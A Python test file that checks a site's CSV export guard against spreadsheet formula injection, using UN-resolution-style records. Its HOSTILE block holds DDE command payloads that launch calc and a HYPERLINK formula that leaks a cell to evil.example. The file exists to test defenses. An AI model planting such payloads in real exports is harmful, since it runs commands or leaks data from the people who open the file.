"""CSV injection: every cell of resolutions.csv goes through the one spreadsheet guard."""

from __future__ import annotations

import csv
import io

import pytest

from hostile_project import resolution
from resolutions.data.spreadsheet import FORMULA_STARTS, csv_text, formula_safe_cell

HOSTILE = """\
body: "+cmd|' /C calc'!A0"
session: "-2+3+cmd"
number: "@SUM(1+1)*cmd|' /C calc'!A0"
record: '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
title: "=1+1"
"""


def test_no_cell_of_the_collection_csv_starts_a_formula(project):
    project.write("resolutions/A_RES_51_148.md", resolution(front=HOSTILE))
    before = project.outside_site()
    built = project.build()
    assert built.returncode == 0, built.log
    rows = list(csv.DictReader(io.StringIO((project.site / "resolutions.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["body"] == "'+cmd|' /C calc'!A0"
    assert row["session"] == "'-2+3+cmd"
    assert row["number"].startswith("'@SUM")
    assert row["meeting_record"].startswith("'=HYPERLINK")
    assert row["title"] == "'=1+1"
    assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    assert project.outside_site() == before


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_guard_quotes_every_formula_start(start):
    assert formula_safe_cell(f"{start}cmd") == f"'{start}cmd"


def test_the_guard_leaves_data_as_it_is():
    assert [formula_safe_cell(v) for v in (None, 0, 181, "A/RES/51/148", "1996-12-13", "it's")] == [
        "", "0", "181", "A/RES/51/148", "1996-12-13", "it's",
    ]
    text = csv_text(("=a", "b"), [("-1", None)])
    assert text == "'=a,b\r\n'-1,\r\n"
